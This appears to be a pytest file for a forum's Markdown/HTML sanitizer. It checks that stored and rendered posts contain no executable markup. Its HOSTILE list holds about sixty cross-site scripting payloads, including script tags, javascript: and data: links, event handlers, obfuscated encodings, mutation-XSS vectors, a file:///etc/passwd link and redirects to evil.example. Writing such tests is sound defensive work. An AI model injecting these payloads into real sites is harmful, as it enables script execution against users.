"""Hostile Markdown and HTML in posts: nothing executable reaches a thread page."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import select

from forum.models import Post
from forum.moderation.render import RENDERER_VERSION
from tests.fixtures import threads as threads_support
from tests.fixtures.threads import client_for, new_reply, new_thread

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "![tracker](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onmouseover=alert(1)>hover</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"evil.swf\"></object>",
    "<embed src=\"evil.swf\">",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<div style=\"position:fixed;top:0\">overlay</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=\"https://evil.example\"><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
    "[x](  javascript:alert(1)  )",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "* <script>alert(1)</script>\n* two",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>custom</x>",
    "<a href=\"//evil.example\">protocol-relative</a>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
]

EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)
TAG = re.compile(r"<[a-zA-Z][^>]*>")
HREF = re.compile(r"""\shref\s*=\s*["']?([^"'\s>]+)""", re.IGNORECASE)

# The shared fixtures, by assignment (a plugin import would be collected twice).
board = threads_support.board
screener = threads_support.screener


def _hrefs(html: str) -> list[str]:
    """Link targets of real tags (escaped text such as &lt;a href=...&gt; is harmless)."""
    return [href for tag in TAG.findall(html) for href in HREF.findall(tag)]

FORBIDDEN_TAGS = re.compile(
    r"<\s*(script|img|iframe|object|embed|style|svg|math|form|input|button|meta|link|base|"
    r"video|audio|source|body|details|marquee|table|template|noscript|x)\b", re.IGNORECASE)


def _post_bodies(page: str) -> list[str]:
    return re.findall(r'<div class="post-body">(.*?)</div>', page, re.DOTALL)


def test_at_least_fifty_hostile_inputs():
    assert len(HOSTILE) >= 50


@pytest.fixture
def hostile_thread(app, db, board, member, second_member, screener):
    # Every text allowed by the (scripted) pipeline: what is tested here is the sanitizer.
    thread = new_thread(board, member, body="Opening post.").post.thread
    for text in HOSTILE:
        new_reply(thread, second_member, text)
    return thread


def test_no_executable_markup_survives_on_the_thread_page(app, db, hostile_thread, member):
    client = client_for(app, member)
    bodies: list[str] = []
    after = 0
    while True:
        response = client.get(f"/t/{hostile_thread.id}?after={after}")
        assert response.status_code == 200
        page = response.get_data(as_text=True)
        bodies.extend(_post_bodies(page))
        ids = [int(i) for i in re.findall(r'<article class="post[^"]*" id="p(\d+)"', page)]
        if 'rel="next"' not in page:
            break
        after = max(ids)
    assert len(bodies) == len(HOSTILE) + 1
    for body in bodies:
        assert not FORBIDDEN_TAGS.search(body), body
        assert not EVENT_HANDLER.search(body), body
        assert not any("style" in tag.lower() for tag in TAG.findall(body)), body
        for href in _hrefs(body):
            assert re.match(r"^(https?:|mailto:)", href, re.IGNORECASE), (href, body)
        for anchor in re.findall(r"<a\s[^>]*>", body):
            assert 'rel="nofollow noopener ugc"' in anchor, anchor


@pytest.mark.parametrize("text", HOSTILE)
def test_stored_html_is_sanitized(app, db, board, member, screener, text):
    result = new_thread(board, member, body=text)
    html = result.post.body_html
    assert not FORBIDDEN_TAGS.search(html), html
    assert not EVENT_HANDLER.search(html), html
    for href in _hrefs(html):
        assert re.match(r"^(https?:|mailto:)", href, re.IGNORECASE), (href, html)
    assert result.post.renderer_version == RENDERER_VERSION


def test_safe_markdown_is_kept(app, db, board, member):
    body = "**bold** *em* `code`\n\n> quote\n\n- one\n- two\n\n[site](https://example.org)"
    html = new_thread(board, member, body=body).post.body_html
    for tag in ("<strong>", "<em>", "<code>", "<blockquote>", "<ul>", "<li>"):
        assert tag in html
    assert 'href="https://example.org"' in html and 'rel="nofollow noopener ugc"' in html


def test_html_is_rerendered_when_the_renderer_changes(app, db, board, member):
    thread = new_thread(board, member, body="**fresh**").post.thread
    post = db.session.scalar(select(Post))
    post.body_html = "<p>stale</p>"
    post.renderer_version = RENDERER_VERSION - 1
    db.session.commit()
    page = client_for(app, member).get(f"/t/{thread.id}").get_data(as_text=True)
    assert "<strong>fresh</strong>" in page and "stale" not in page
    db.session.expire_all()
    assert db.session.get(Post, post.id).renderer_version == RENDERER_VERSION
